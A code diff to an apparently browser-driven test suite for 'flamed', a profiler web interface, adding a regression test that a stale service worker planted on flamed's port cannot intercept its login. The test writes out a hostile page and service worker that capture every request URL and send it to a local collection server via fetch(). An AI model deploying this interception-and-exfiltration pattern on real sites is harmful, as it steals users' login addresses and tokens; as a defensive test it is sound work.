@@ -47,8 +47,8 @@ async function captureForASecond(page) {
     await graphShown(page);
 }
 
-const logIn = () => execFileSync(process.env.FLAMED_PROGRAM, ["--login", "--listen", `127.0.0.1:${flamed.port}`, "--listen",
-    `unix:${flamed.folder}/sock`], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }).trim();
+const logIn = (at) => execFileSync(process.env.FLAMED_PROGRAM, ["--login", "--listen", `127.0.0.1:${at.port}`, "--listen",
+    `unix:${at.folder}/sock`], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }).trim();
 
 // Has a page of another site (another port) ask for @address in advance, without a Referer.
 async function speculate(page, kind, address) {
@@ -85,6 +85,56 @@ describe("the page of a real flamed", { concurrency: 3 }, () => {
         await page.close();
         site.closeAllConnections();
         site.close();
+    });
+
+    journey("what another program had left in the browser, at flamed's port, does not meet a login", async () => {
+        const own = await new Flamed().start(), seen = [];
+        const theft = createServer((request, answer) => {
+            seen.push(decodeURIComponent(request.url));
+            answer.writeHead(204, { "Access-Control-Allow-Origin": "*" }).end();
+        });
+
+        await own.halt();
+        await new Promise((done) => theft.listen(0, "127.0.0.1", done));
+        const tell = (what) => `fetch("http://127.0.0.1:${theft.address().port}/?" + encodeURIComponent(${what}), { mode: "no-cors" });`;
+        const files = {
+            "/": ["text/html", `<title>another program</title><script>${tell('"page"')} navigator.serviceWorker.register("/worker.js");</script>`],
+            "/worker.js": ["text/javascript", `addEventListener("install", () => skipWaiting());
+                addEventListener("activate", (e) => e.waitUntil(clients.claim()));
+                addEventListener("fetch", (e) => { ${tell("e.request.url")} });`],
+        };
+        const thief = createServer((request, answer) => {
+            const [type, body] = files[request.url] || ["text/plain", ""];
+
+            answer.writeHead(200, { "Content-Type": type, "Cache-Control": "max-age=31536000" }).end(body);
+        });
+
+        await new Promise((done) => thief.listen(own.port, "127.0.0.1", done));
+        const context = await browser.newContext();
+        const victim = await context.newPage();
+
+        await victim.goto(`http://localhost:${own.port}/`);
+        await victim.waitForFunction(() => navigator.serviceWorker.controller);
+        await victim.close();
+        thief.closeAllConnections();
+        await new Promise((done) => thief.close(done));
+        await own.run();
+        const before = await context.newPage();
+
+        await before.goto(`http://localhost:${own.port}/`); // which shows that it lasts
+        assert.equal(await before.title(), "another program");
+        await before.close();
+        seen.length = 0;
+        const page = await context.newPage();
+
+        await page.goto(logIn(own));
+        await page.getByText("root · sees everything").waitFor();
+        assert.match(await page.title(), new RegExp(`flamed localhost:${own.port}$`));
+        assert.deepEqual(seen, []);
+        await context.close();
+        theft.closeAllConnections();
+        theft.close();
+        await own.stop();
     });
 
     journey("find: the JVM by its name, with its share of the CPU over time", async () => {
@@ -410,7 +460,7 @@ describe("the page of a real flamed", { concurrency: 3 }, () => {
     });
 
     journey("log in: an address of flamed --login, once; a capture by the cookie; and out", async () => {
-        const address = logIn();
+        const address = logIn(flamed);
         const page = await open(browser, address, jvmHash());
 
         await page.getByText("root · sees everything").waitFor();
